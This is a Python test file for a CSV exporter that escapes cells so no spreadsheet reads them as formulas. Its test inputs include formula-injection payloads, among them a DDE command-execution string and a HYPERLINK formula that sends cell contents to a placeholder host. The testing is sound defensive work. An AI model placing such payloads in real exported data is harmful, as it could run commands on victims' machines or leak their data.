"""CSV that any reader reads, and in which no cell can become a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgefaced.spreadsheet import Cell, csv_lines, harmless

HEADER = ("name", "hours", "present")


def table(rows: list[list[Cell]], separator: str = ",") -> str:
    return "".join(csv_lines(HEADER, rows, separator=separator))


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_python_reads_it_back(separator: str) -> None:
    rows: list[list[Cell]] = [
        ['Zoë "The Fox" O\'Neill, Dr.; PhD\t|', 8.25, True],
        ["two\r\nlines", -1, False],
        ["", None, None],
    ]
    text = table(rows, separator)
    # Of a sniffed dialect only the separator is to be trusted: it takes "" for two ends of a cell.
    found_separator = csv.Sniffer().sniff(text, delimiters=",;\t").delimiter
    assert found_separator == separator
    found = list(csv.reader(io.StringIO(text), delimiter=found_separator, strict=True))
    hours = "8,25" if separator == ";" else "8.25"
    assert found == [
        list(HEADER),
        ['Zoë "The Fox" O\'Neill, Dr.; PhD |', hours, "yes"],
        ["two lines", "-1", "no"],
        ["", "", ""],
    ]
    assert text.endswith("\r\n")
    assert text.count("\n") == 4


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org?"&A1,"x")',
        "  =1",
        "\t=1",
        "\r=1",
        "\n=1",
        "\x00=1",
        "\u00a0=1",
        "\ufeff=1",
        "＝1",
        "＋1",
        "－1",
        "＠A",
        # Cut where another country cuts.
        "Ann;=1+1",
        "Ann,=1+1",
        "Ann\t=1+1",
        "Ann| @x",
        'Ann";"=1',
        "Ann'; -1",
        "Ann\n=1+1",
    ],
)
def test_nothing_becomes_a_formula(text: str) -> None:
    assert not dangerous(text := harmless(text)), text


def dangerous(cell: str) -> bool:
    """Whether any piece of a cell, wherever a spreadsheet cuts it, begins like a formula."""
    pieces = re.split(r"[,;\t|\r\n]", cell)
    return any(re.match(r'[\s"\ufeff\u200b]*[=+\-@＝＋－＠]', piece) for piece in pieces)


@given(st.text(alphabet="=+-@;,|\t\n\r \"'A＝\ufeff", max_size=12))
def test_whatever_a_name_is_made_of(text: str) -> None:
    assert not dangerous(harmless(text))


@pytest.mark.parametrize("text", ["Ann-Marie", "a+b@example.org", "Müller, Zoë", "2026-03-02", ""])
def test_plain_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
